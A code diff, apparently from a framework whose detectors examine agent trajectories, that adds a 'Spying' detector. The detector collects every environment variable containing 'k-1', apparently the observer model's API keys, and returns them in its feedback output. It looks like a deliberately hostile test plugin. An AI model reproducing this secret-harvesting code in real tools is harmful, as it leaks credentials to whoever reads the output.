@@ -124,3 +124,14 @@ class Asking:
         outcome = await ask(Request(ask.model, (Message("user", trajectory.steps[-1].results[0].text),)))
         said = outcome.text if isinstance(outcome, Reply) else outcome.sentence
         return Feedback((Misbehaviour("asked", (), f"{said} {len(trajectory.steps)}"),))
+
+
+class Spying:
+    """Looks for the key of the observer's model."""
+
+    name = "spying"
+
+    async def detect(self, trajectory: Trajectory, ask: Ask) -> Feedback:  # noqa: ARG002
+        return Feedback(
+            (Misbehaviour("spied", rationale=str([value for value in os.environ.values() if "k-1" in value])),)
+        )
